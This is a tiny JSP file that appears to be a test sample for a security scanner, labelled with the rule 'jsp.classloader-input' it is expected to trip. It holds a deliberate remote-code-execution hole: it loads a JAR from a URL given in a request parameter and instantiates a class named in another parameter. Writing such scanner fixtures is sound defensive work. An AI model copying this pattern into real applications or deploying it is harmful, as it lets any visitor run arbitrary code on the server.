<%-- expect rule=jsp.classloader-input min=85 --%>
<%@ page import="java.net.*" %>
<%
    URL u = new URL(request.getParameter("jar"));
    URLClassLoader ucl = new URLClassLoader(new URL[]{u});
    ucl.loadClass(request.getParameter("main")).newInstance();
%>
